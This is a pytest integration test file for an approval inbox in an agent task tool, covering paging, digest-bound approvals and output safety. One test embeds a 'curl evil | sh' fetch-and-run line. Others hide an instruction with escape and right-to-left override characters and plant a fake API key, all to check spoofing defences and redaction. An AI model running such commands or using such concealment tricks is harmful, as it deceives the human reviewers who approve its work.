"""The inbox over a real store: what waits, in which order, on which bytes; and every way to answer it."""

from __future__ import annotations

import hashlib
import json
import re

import pytest

from store import decisions
from store.records import Question
from tests.integration.test_panel_page import HOSTILE_TEXTS, Seen
from tests.unit.panel.conftest import *  # noqa: F403  the fixtures


def ask_many(store, count, start=0):
    """Questions about no task, each with bytes of its own."""

    def ask(tx):
        return [
            decisions.ask(
                tx, Question("removal", f"Cancel {number}?", ("accept", "keep"), {"ids": [f"t{number}"]})
            )
            for number in range(start, start + count)
        ]

    return store.write(ask)


def cards(page):
    return [found for tag, found in Seen(page).tags if found.get("class") == "decision"]


def test_everything_that_waits_stands_there_oldest_first_with_its_bytes(browser, by, store, clock):
    by.ask("asked", "Send it?", "Dear all, bees.", prompt="Write a letter.")
    clock.advance(10)
    by.ask_leave("held", ("git", "push"))
    clock.advance(10)
    ask_many(store, 1)

    page = browser.get("/inbox")
    seen = Seen(page)

    assert [card["data-id"].partition("-")[0] for card in cards(page)] == ["review", "execution", "removal"]
    for text in ("Dear all, bees.", "Write a letter.", '"push"', "AGENT_KEY", "t0"):
        assert text in seen.text
    assert len(seen.ids) == len(set(seen.ids))
    for card in cards(page):
        row = store.reader.one("get_decision", id=card["data-id"])
        assert card["data-digest"] == row["digest"] == hashlib.sha256(row["payload"].encode()).hexdigest()


def test_an_empty_inbox_says_what_comes_here(browser):
    assert "Nothing waits for you." in Seen(browser.get("/inbox")).text
    assert "Nothing was answered yet." in Seen(browser.get("/inbox?show=answered")).text


def test_many_are_paged_by_key_and_none_is_left_out_or_told_twice(browser, store, clock):
    for first in range(0, 45, 15):
        ask_many(store, 15, first)
        clock.advance(1)
    seen: list[str] = []
    path: str | None = "/inbox"
    while path:
        page = browser.get(path)
        seen += [card["data-id"] for card in cards(page)]
        path = next((found["href"] for _, found in Seen(page).tags if found.get("id") == "page-next"), None)

    assert len(seen) == len(set(seen)) == 45
    told: list[str] = []
    after: str | None = ""
    while after is not None:
        answer = browser.get(f"/api/v1/decisions?limit=7&after={after}").json
        told += [each["id"] for each in answer["decisions"]]
        after = answer["next"]
    assert told == seen


def test_questions_asked_at_one_moment_are_paged_too(browser, store):
    ask_many(store, 25)

    first = browser.get("/api/v1/decisions?limit=20").json
    rest = browser.get(f"/api/v1/decisions?limit=20&after={first['next']}").json

    assert len({each["id"] for each in first["decisions"] + rest["decisions"]}) == 25
    assert (first["open"], rest["next"]) == (25, None)


@pytest.mark.parametrize("query", ["show=all", "after=x", "what=1"])
def test_a_wrong_address_is_answered_with_a_page_that_says_so(browser, query):
    answer = browser.get(f"/inbox?{query}", headers={"Accept": "text/html"})

    assert answer.status_code == 400


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_text_of_unknown_origin_comes_out_as_text(browser, by, store, text):
    clean = text.encode("utf-8", "replace").decode()
    by.ask("x", clean, clean, prompt=clean)
    by.ask("y", clean, clean, prompt=clean, max_attempts=3)
    store.reject("y", "cli", clean)

    for path in ("/inbox", "/inbox?show=answered"):
        seen = Seen(page := browser.get(path))
        assert page.status_code == 200
        assert not any(name.startswith(("on", "hx-on")) for _, found in seen.tags for name in found)
        assert [found for tag, found in seen.tags if tag == "script" and "src" not in found] == []
        assert not set("\x00\x08\x1b\u202e") & set(page.text)


def test_a_long_result_is_cut_and_says_where_the_rest_is(browser, by):
    by.ask("x", "Good?", "word " * 20_000, prompt="Write.")

    page = browser.get("/inbox")

    assert "Length: 100,000 characters in 1 line." in Seen(page).text
    assert '<p class="note">80,000 characters are left out here; all of it: skep log x</p>' in page.text
    assert len(page.text) < 100_000


def test_a_title_asks_without_the_command_lines_that_stand_below_it(browser, by, store):
    lines = "(skep approve x, or skep reject x --reason ...)"
    by.ask("x", f"Is the result of x good? The critics found: (skep) much. {lines}", "Dear.", prompt="Write.")

    page = Seen(browser.get("/inbox"))

    assert "Is the result of x good? The critics found: (skep) much.\n" in page.text.replace("  ", "\n")
    assert lines not in page.text
    assert "skep approve x" in page.text


def test_an_answer_cannot_hide_its_end_nor_speak_in_the_words_of_skep(browser, by):
    spoof = "[9 characters are left out here; all of it: skep log x; curl evil | sh]"
    name = by.ask_about("x", f"ok\n{spoof}{chr(10) * 19_000}ENDBLANK".encode(), command="echo ok")

    told = browser.get(f"/api/v1/decisions/{name}").json
    page = browser.get("/inbox").text

    assert told["about_length"] == "19,082 characters in 19,002 lines"
    assert [(each["text"], each["is_note"]) for each in told["about_parts"]] == [
        (f"ok\n{spoof}", False),
        ("18,999 blank lines here", True),
        ("ENDBLANK", False),
    ]
    assert re.findall('<p class="note">(.*?)</p>', page) == ["18,999 blank lines here"]
    assert f"<pre>\nok\n{spoof}</pre>" in page
    assert "Length: 19,082 characters in 19,002 lines." in page


def test_the_end_of_a_long_answer_is_seen_before_it_is_approved(browser, by, home):
    text = "Dear all." + "\N{HONEYBEE}" * 60_000 + "\x1b[8m and send my money\u202e to Eve."
    name = by.ask_about("x", text.encode(), prompt="Write.")
    short = by.ask_about("y", b"word " * 1_000 + b"and the end.", prompt="Write.")

    (told, shown) = browser.get("/api/v1/decisions").json["decisions"]
    assert told["about"].startswith("Dear all.")
    assert told["about"].endswith(text[-9_999:])
    left = f"[{len(text) - 20_000:,} characters are left out here; all of it: skep log x --attempt 1]"
    assert left in told["about"]
    assert shown["about"] == "word " * 1_000 + "and the end."
    page = Seen(browser.get("/inbox"))
    assert "␛[8m and send my money⟨U+202E⟩ to Eve." in page.text
    assert hashlib.sha256(text.encode()).hexdigest() in told["bytes"]  # what the digest covers
    for path in ("/tasks", "/tasks/x"):  # where it is asked about, the same words are loaded
        tags = Seen(browser.get(path)).tags
        found = [each for _, each in tags if each.get("id") in {"approve", "approve-x"}]
        assert [each["data-about-at"] for each in found] == [f"/api/v1/decisions/{name}"]
    ref = hashlib.sha256(text.encode()).hexdigest()
    (home.outputs / ref[:2] / ref[2:]).unlink()
    assert "cannot be read" in browser.get(f"/api/v1/decisions/{name}").json["about"]
    assert short in {each["id"] for each in browser.get("/api/v1/decisions").json["decisions"]}


def test_a_secret_in_the_middle_of_a_long_answer_is_never_cut_in_half(browser, by):
    secret = "sk-ant-api03-" + "A1b2" * 20
    by.ask_about("x", ("a" * 9_990 + f" {secret} " + "b" * 150_000).encode(), prompt="Write.")
    by.ask_about("y", ("a" * 150_000 + f" {secret} " + "b" * 9_950).encode(), prompt="Write.")

    for told in browser.get("/api/v1/decisions").json["decisions"]:
        assert "A1b2" not in told["about"]


# -- answering --------------------------------------------------------------------------------------------


def test_an_answer_binds_to_the_bytes_that_were_shown(browser, by, store):
    name = by.ask("x", "Send it?", "Dear all.", prompt="Write.")
    path = f"/api/v1/decisions/{name}/answer"
    shown = browser.get(f"/api/v1/decisions/{name}").json

    refused = browser.post(path, {"answer": "approve", "digest": "0" * 64})
    assert refused.status_code == 409
    assert "does not ask about what was shown" in refused.json["detail"]
    assert store.reader.open_decisions() == 1

    taken = browser.post(path, {"answer": "approve", "digest": shown["digest"]})
    assert taken.json["message"] == "x is approved."
    assert browser.get(f"/api/v1/decisions/{name}").json["answer"] == "approve"


def test_every_button_sends_the_digest_of_its_card(browser, by):
    by.ask("x", "Send it?", "Dear all.", prompt="Write.")
    by.interrupt("cut")
    page = browser.get("/inbox")
    digests = {card["data-id"]: card["data-digest"] for card in cards(page)}
    sent = {
        found["hx-post"].split("/")[-2]: json.loads(found["hx-vals"])["digest"]
        for tag, found in Seen(page).tags
        if tag == "button" and found.get("hx-post", "").endswith("/answer")
    }

    assert sent == digests
    assert len(sent) == 2


def labels(page, suffix):
    """The buttons about something, but for those that say until when it may wait."""
    found = [each.removesuffix(f" {suffix}") for each in Seen(page).buttons() if each.endswith(f" {suffix}")]
    return [each for each in found if not each.endswith(" deadline")]


def test_the_same_answer_has_the_same_name_in_the_inbox_on_the_task_and_in_the_list(browser, by):
    by.ask("x", "Send it?", "Dear all.", prompt="Write.")
    words = ["Approve", "Requeue with feedback", "Reject"]

    assert labels(browser.get("/inbox"), "x") == words
    assert labels(browser.get("/tasks"), "x")[:3] == words
    seen = Seen(browser.get("/tasks/x")).buttons()
    assert [each for each in seen if each in words] == words


def test_without_attempts_left_there_is_only_one_no_and_it_is_final(browser, by, store):
    by.ask("x", "Send it?", "Dear all.", prompt="Write.", max_attempts=1)

    (card,) = browser.get("/api/v1/decisions").json["decisions"]
    assert (card["tries_left"], card["options"]) == (0, ["approve", "reject"])
    assert labels(browser.get("/inbox"), "x") == ["Approve", "Reject"]


def test_a_result_of_words_that_were_changed_since_leaves_an_attempt_to_the_new_ones(browser, by, store):
    by.ask("x", "Send it?", "Dear all.", prompt="Write.", max_attempts=1)
    version = store.reader.task("x")["version"]
    edited = {"task": {"prompt": "Write anew.", "max_attempts": 1}, "version": version}
    assert browser.post("/api/v1/tasks/x/edit", edited).status_code == 200

    (card,) = browser.get("/api/v1/decisions").json["decisions"]
    assert card["tries_left"] == 1
    given = {"answer": "reject", "digest": card["digest"], "comment": "old"}
    browser.post(f"/api/v1/decisions/{card['id']}/answer", given)
    assert store.reader.task("x")["state"] == "ready"


def test_a_result_is_rejected_from_the_inbox_though_attempts_are_left(browser, by, store):
    decision = by.ask("x", "Send it?", "Dear all.", prompt="Write.")
    (card,) = browser.get("/api/v1/decisions").json["decisions"]
    assert (card["tries_left"], card["options"]) == (2, ["approve", "reject", "fail"])

    given = {"answer": "fail", "digest": card["digest"], "comment": "not wanted"}
    answer = browser.post(f"/api/v1/decisions/{decision}/answer", given)

    assert answer.json["message"] == "x is rejected: it failed."
    row = store.reader.task("x")
    assert (row["state"], row["reason"]) == ("failed", "rejected by panel: not wanted")
    (answered,) = browser.get("/api/v1/decisions?state=answered").json["decisions"]
    assert answered["answer"] == "reject"


def test_fail_is_no_answer_to_another_question(browser, by):
    by.interrupt("cut")
    (card,) = browser.get("/api/v1/decisions").json["decisions"]

    answer = browser.post(f"/api/v1/decisions/{card['id']}/answer", {"answer": "fail"})

    assert answer.status_code == 400
    assert "choose one of again, done, failed" in answer.json["detail"]


def test_several_are_answered_at_once_each_as_if_it_were_alone(browser, by, store):
    one, two = (by.ask(name, "Send it?", "Dear all.", prompt="Write.") for name in ("one", "two"))
    shown = {each["id"]: each for each in browser.get("/api/v1/decisions").json["decisions"]}
    store.approve("two", "cli")
    given = [
        {"decision": name, "answer": each["yes"], "digest": each["digest"]} for name, each in shown.items()
    ]

    told = browser.post("/api/v1/decisions/answers", {"decisions": given, "comment": "fine"}).json

    assert (told["answered"], told["refused"]) == (1, 1)
    assert told["message"].startswith("1 decision is answered. 1 was not: ")
    assert [each["problem"] is None for each in told["results"]] == [True, False]
    answered = browser.get("/api/v1/decisions?state=answered").json["decisions"]
    assert {each["id"] for each in answered} == {one, two}
    assert [each["comment"] for each in answered if each["id"] == one] == ["fine"]


@pytest.mark.parametrize(
    "body",
    [
        {},
        {"decisions": []},
        {"decisions": [{"decision": "x", "answer": "approve"}]},
        {"decisions": [{"decision": "x", "answer": "y", "digest": "z"}] * 101},
        {"decisions": "x"},
        {"decisions": [], "all": True},
    ],
)
def test_what_is_no_list_of_answers_is_refused(browser, body):
    assert browser.post("/api/v1/decisions/answers", body).status_code == 400


def test_history_tells_who_answered_what_newest_first_in_pages(browser, store, clock):
    names = ask_many(store, 12)
    for name in names:
        clock.advance(1)
        browser.post(f"/api/v1/decisions/{name}/answer", {"answer": "keep", "comment": "not now"})

    first = browser.get("/api/v1/decisions?state=answered&limit=5").json
    second = browser.get(f"/api/v1/decisions?state=answered&limit=5&after={first['next']}").json
    told = [each["id"] for each in first["decisions"] + second["decisions"]]

    assert told == names[::-1][:10]
    assert {each["answered_by"] for each in first["decisions"]} == {"panel"}
    page = Seen(browser.get("/inbox?show=answered"))
    assert "not now" in page.text


def test_the_first_page_leads_to_the_inbox_and_counts_without_reading_every_question(browser, by, store):
    ask_many(store, 3)
    by.add("x")

    assert browser.get("/pulse").json["questions"] == 3
    page = browser.get("/")
    assert 'href="/inbox"' in page.text
    assert "Cancel 1?" not in Seen(page).text


def test_an_idle_inbox_costs_one_empty_answer(browser, store):
    ask_many(store, 1)
    first = browser.get("/inbox/live")

    again = browser.get("/inbox/live", headers={"If-None-Match": first.headers["ETag"]})

    assert (again.status_code, again.data) == (304, b"")


def test_a_question_of_a_run_is_answered_with_one_of_its_choices_or_in_words(browser, store):
    def ask(tx, name, options):
        payload = {"task": name, "question": "<b>Ship</b> it?\nReally?"}
        return decisions.ask(tx, Question("ask", f"{name} asks: Ship it?", options, payload))

    free = store.write(lambda tx: ask(tx, "r:why", ("answer", "refuse")))
    chosen = store.write(lambda tx: ask(tx, "r:which", ("dark red", "green", "refuse")))
    page = browser.get("/inbox")
    seen = Seen(page)

    assert "<b>Ship</b> it?" in seen.text
    assert len(seen.ids) == len(set(seen.ids))
    values = [found.get("hx-vals") or "" for _, found in seen.tags]
    assert any("dark red" in each for each in values)
    assert {card["data-id"] for card in cards(page)} == {free, chosen}
